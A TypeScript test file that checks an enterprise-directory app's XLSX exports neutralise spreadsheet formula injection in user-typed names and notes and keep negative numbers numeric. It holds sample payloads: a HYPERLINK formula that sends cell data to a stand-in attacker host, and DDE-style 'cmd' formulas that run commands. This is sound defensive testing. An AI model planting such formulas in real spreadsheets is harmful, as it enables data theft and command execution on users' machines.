import type ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { approvedUnitsXlsx, progressXlsx } from '@main/progress/reports';
import { ProgressQuery } from '@shared/progress/progress';
import { addEnterprise, directoryStore, enter, openXlsx, PNG } from '../directory/helpers';
import { reviewWorld } from '../review/helpers';

// Every XLSX the laptop writes carries text users typed (enterprise and unit names, status
// notes, inspection findings, evidence notes, account names). Text a spreadsheet would run as a
// formula must come out inert (a leading apostrophe, a plain text cell), and numbers must stay
// numbers, negative ones included.

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
const AT_SUM = '@SUM(1+1)*cmd|" /C calc"!A0';
const PLUS = '+1+cmd';

/** Every cell of every sheet: [sheet, address, value]. */
function cells(wb: ExcelJS.Workbook): [string, string, ExcelJS.CellValue][] {
  const out: [string, string, ExcelJS.CellValue][] = [];
  wb.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => out.push([sheet.name, cell.address, cell.value]))));
  return out;
}

/** No cell is a formula or text that starts like one; the typed texts are there, made inert. */
function expectInert(wb: ExcelJS.Workbook, typed: readonly string[]): void {
  const all = cells(wb);
  for (const [sheet, address, value] of all) {
    const isFormula = typeof value === 'object' && value !== null && ('formula' in value || 'sharedFormula' in value);
    expect(isFormula, `${sheet}!${address}`).toBe(false);
    if (typeof value === 'string') expect(value, `${sheet}!${address}`).not.toMatch(/^[=+\-@\t\r]/);
  }
  const texts = all.map(([, , v]) => v);
  for (const t of typed) expect(texts).toContain(`'${t}`);
}

describe('laptop exports neutralise formulas', () => {
  it('directory export: an enterprise named like a formula', async () => {
    const s = directoryStore();
    await addEnterprise(s, '1', { name: HYPERLINK, statusNote: PLUS });
    const wb = await openXlsx((await s.ok('directory:export', {})).contentBase64);
    expectInert(wb, [HYPERLINK]);
  });

  it('退库 list export: the name and the status note', async () => {
    const s = directoryStore();
    await addEnterprise(s, '2', { name: AT_SUM, scale: 'above', status: 'closed', statusNote: PLUS });
    const wb = await openXlsx((await s.ok('exits:exportXlsx', {})).contentBase64);
    expectInert(wb, [AT_SUM, PLUS]);
  });

  it('draw list export: the title, inspectors and findings', async () => {
    const s = directoryStore();
    const e = await addEnterprise(s, '3', { name: '正常企业' });
    const record = await s.ok('draw:run', { title: HYPERLINK, filter: {}, count: 1, inspectors: ['-张三', '李四'], seed: 's1' });
    await s.ok('inspection:record', { drawId: record.id, enterpriseId: e.id, result: 'issues_found', findings: AT_SUM, isClosed: false, closingNote: '' });
    const wb = await openXlsx((await s.ok('draw:exportXlsx', { id: record.id })).contentBase64);
    expectInert(wb, [HYPERLINK, AT_SUM]);
  });

  it('入规 package: the evidence note is inert and a loss stays a negative number', async () => {
    const s = directoryStore();
    const e = await addEnterprise(s, '4', { name: PLUS });
    await enter(s, e.id, 2024, [[1, 'revenue', 300], [1, 'totalProfit', -25]]);
    await s.ok('evidence:attach', { enterpriseId: e.id, fileName: '凭证.png', mimeType: 'image/png', contentBase64: PNG.toString('base64'), kind: 'voucher', note: HYPERLINK, figures: [] });
    const wb = await openXlsx((await s.ok('package:export', { enterpriseId: e.id, endYear: 2024, endMonth: 1 })).contentBase64);
    expectInert(wb, [HYPERLINK, PLUS]);
    const values = cells(wb).map(([, , v]) => v);
    expect(values).toContain(-25);
  });

  it('progress and approved-unit reports: account and unit names', async () => {
    const w = reviewWorld();
    w.setTeam([{ id: 'u1', username: 'wang', name: HYPERLINK, role: 'enumerator', areas: ['640502100002'] }]);
    w.signIn('supervisor', '李指导');
    const unit = w.register(0);
    w.store.sqlite.prepare('UPDATE units SET name = ? WHERE id = ?').run(AT_SUM, unit.id);
    await w.review.decide({ unitId: unit.id, version: unit.version, decision: 'approve', comments: [] });
    const progress = await openXlsx((await progressXlsx(w.store.db, ProgressQuery.parse({}), w.clock.now)).contentBase64);
    expectInert(progress, [HYPERLINK]);
    const approved = await openXlsx((await approvedUnitsXlsx(w.store.db, { statuses: ['approved'] }, w.clock.now)).contentBase64);
    expectInert(approved, [AT_SUM]);
  });
});
